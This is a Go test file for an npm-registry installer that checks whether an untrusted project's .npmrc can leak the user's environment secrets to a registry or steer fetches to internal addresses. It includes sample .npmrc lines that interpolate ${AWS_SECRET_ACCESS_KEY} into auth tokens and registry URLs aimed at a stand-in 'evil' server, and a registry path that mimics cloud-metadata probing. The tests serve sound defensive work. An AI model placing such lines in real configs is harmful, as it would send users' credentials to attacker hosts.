package pkginstall

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"mcpbox/internal/egress"
)

// TestProjectNPMRCGetsNoEnvironment: the project is not trusted, and its
// .npmrc must not send the user's environment (an API key, a cloud
// secret, a secret mcpbox resolves from env:) to a registry it names:
// as a token, in a registry URL's host or path, or in a scope's. The
// attack is played against a registry on loopback standing in for the
// attacker's; the packument fetch (from the host, outside any sandbox)
// must not carry the value.
func TestProjectNPMRCGetsNoEnvironment(t *testing.T) {
	const secret = "AKIAs3cretV4lueFromTheUsersEnv"
	var mu sync.Mutex
	var seen []string
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		seen = append(seen, fmt.Sprint(r.URL, r.Header))
		mu.Unlock()
		http.NotFound(w, r)
	}))
	t.Cleanup(evil.Close)
	host := strings.TrimPrefix(evil.URL, "http://")
	home := t.TempDir()
	env := map[string]string{"HOME": home, "AWS_SECRET_ACCESS_KEY": secret}
	get := func(k string) string { return env[k] }
	for _, rc := range []string{
		"registry=" + evil.URL + "/\n//" + host + "/:_authToken=${AWS_SECRET_ACCESS_KEY}\n",
		"registry=" + evil.URL + "/\n//" + host + "/:_auth=${AWS_SECRET_ACCESS_KEY}\n",
		"registry=" + evil.URL + "/${AWS_SECRET_ACCESS_KEY}/\n",
		"@x:registry=" + evil.URL + "/${AWS_SECRET_ACCESS_KEY}/\nregistry=" + evil.URL + "/\n",
	} {
		project := t.TempDir()
		if err := os.WriteFile(filepath.Join(project, ".npmrc"), []byte(rc), 0o600); err != nil {
			t.Fatal(err)
		}
		c, err := LoadNPMConfig(get, project)
		if err != nil {
			if strings.Contains(err.Error(), secret) {
				t.Errorf("%q: the error carries the value: %v", rc, err)
			}
			continue // refused: nothing is fetched
		}
		for _, name := range []string{"x", "@x/y"} {
			ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
			r := &registry{cfg: c, client: &http.Client{Timeout: 10 * time.Second}}
			_, _, ferr := r.packument(ctx, name)
			cancel()
			if ferr != nil && strings.Contains(ferr.Error(), secret) {
				t.Errorf("%q: the fetch error carries the value: %v", rc, ferr)
			}
		}
	}
	mu.Lock()
	defer mu.Unlock()
	for _, s := range seen {
		if strings.Contains(s, secret) {
			t.Errorf("the project's registry received the user's environment: %s", s)
		}
	}
}

// TestUserNPMRCExpandsEnvironment: the user's own config (and a project
// dir that is the home dir, whose .npmrc is the user's) keeps npm's
// ${VAR} expansion; a project's literal token still works.
func TestUserNPMRCExpandsEnvironment(t *testing.T) {
	home := t.TempDir()
	rc := "//npm.pkg.github.com/:_authToken=${NODE_AUTH_TOKEN}\n"
	if err := os.WriteFile(filepath.Join(home, ".npmrc"), []byte(rc), 0o600); err != nil {
		t.Fatal(err)
	}
	env := map[string]string{"HOME": home, "NODE_AUTH_TOKEN": "tok"}
	get := func(k string) string { return env[k] }
	for _, project := range []string{"", home} {
		c, err := LoadNPMConfig(get, project)
		if err != nil || c.Auth["//npm.pkg.github.com/"].Token != "tok" {
			t.Errorf("project %q: %v, %+v", project, err, c.Auth)
		}
	}
	project := t.TempDir()
	os.WriteFile(filepath.Join(project, ".npmrc"), []byte("//127.0.0.1:4873/:_authToken=literal\n"), 0o600)
	if c, err := LoadNPMConfig(get, project); err != nil || c.Auth["//127.0.0.1:4873/"].Token != "literal" {
		t.Errorf("a project's literal token: %v, %+v", err, c.Auth)
	}
}

// TestProjectRegistryAtAnInsideAddress: the project may name registries,
// but it is not trusted with a non-public address. Its .npmrc naming a
// registry (or a scope's) on this host's loopback, standing in for cloud
// metadata or a LAN service, must not get the host to fetch from it (at
// a path of the project's choosing), nor the fetching sandbox's egress an
// address rule for it, nor a lockfile resolving there a rule. The same
// registry in the user's own .npmrc is trusted, as before.
func TestProjectRegistryAtAnInsideAddress(t *testing.T) {
	svc, hits := internalService(t)
	rc := "registry=" + svc.URL + "/latest/meta-data/\n@p:registry=" + svc.URL + "/\n"
	home, project := t.TempDir(), t.TempDir()
	get := func(k string) string { return map[string]string{"HOME": home}[k] }
	if err := os.WriteFile(filepath.Join(project, ".npmrc"), []byte(rc), 0o600); err != nil {
		t.Fatal(err)
	}
	c, err := LoadNPMConfig(get, project)
	if err != nil {
		t.Fatal(err)
	}
	in := &Installer{NPM: c}
	r := in.registry() // the host's fetches, as serve and run make them
	for _, name := range []string{"iam", "@p/y"} {
		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		_, _, ferr := r.packument(ctx, name)
		cancel()
		if !errors.Is(ferr, egress.ErrPrivateAddress) {
			t.Errorf("packument of %s from the project's registry: %v, want a refusal of the address", name, ferr)
		}
		// The refusal says where the setting is trusted.
		if ferr == nil || !strings.Contains(ferr.Error(), "~/.npmrc") {
			t.Errorf("packument of %s: %v, want a hint to move the registry setting to ~/.npmrc", name, ferr)
		}
	}
	if n := hits.Load(); n != 0 {
		t.Errorf("the internal service got %d requests from the host", n)
	}
	svcHost := strings.TrimPrefix(svc.URL, "http://")
	host, _, _ := strings.Cut(svcHost, ":")
	reg, _ := url.Parse(svc.URL + "/")
	rules, err := registryRules(in.fetchRegistries(reg, svc.URL+"/p/-/p-1.0.0.tgz"))
	if err != nil {
		t.Fatal(err)
	}
	for _, rule := range rules {
		if rule.Host == host {
			t.Errorf("the fetching sandbox's egress allows %+v, an address only the project names", rule)
		}
	}
	lock := []byte(`{"packages":{"node_modules/p":{"resolved":"` + svc.URL + `/p/-/p-1.0.0.tgz"}}}`)
	if rules, err := c.LockfileRegistryRules(lock); err == nil {
		t.Errorf("a lockfile resolving to the project's registry address: rules %+v, want a refusal", rules)
	}

	// The user's own .npmrc naming it: trusted, also where the project's
	// names it again.
	if err := os.WriteFile(filepath.Join(home, ".npmrc"), []byte(rc), 0o600); err != nil {
		t.Fatal(err)
	}
	uc, err := LoadNPMConfig(get, project)
	if err != nil {
		t.Fatal(err)
	}
	uin := &Installer{NPM: uc}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if _, _, ferr := uin.registry().packument(ctx, "iam"); errors.Is(ferr, egress.ErrPrivateAddress) || hits.Load() == 0 {
		t.Errorf("the user's registry: %v, %d requests; want it fetched", ferr, hits.Load())
	}
	if rules, err := registryRules(uin.fetchRegistries(reg, svc.URL+"/p/-/p-1.0.0.tgz")); err != nil || !slices.ContainsFunc(rules, func(r egress.Rule) bool { return r.Host == host }) {
		t.Errorf("the user's registry: rules %+v, %v; want one for %s", rules, err, host)
	}
	if _, err := uc.LockfileRegistryRules(lock); err != nil {
		t.Errorf("a lockfile resolving to the user's registry: %v", err)
	}
	// npm_config_registry is the user's too, over the project's .npmrc.
	os.Remove(filepath.Join(home, ".npmrc"))
	env := map[string]string{"HOME": home, "npm_config_registry": svc.URL + "/"}
	ec, err := LoadNPMConfig(func(k string) string { return env[k] }, project)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := ec.LockfileRegistryRules(lock); err != nil {
		t.Errorf("a lockfile resolving to npm_config_registry: %v", err)
	}
}
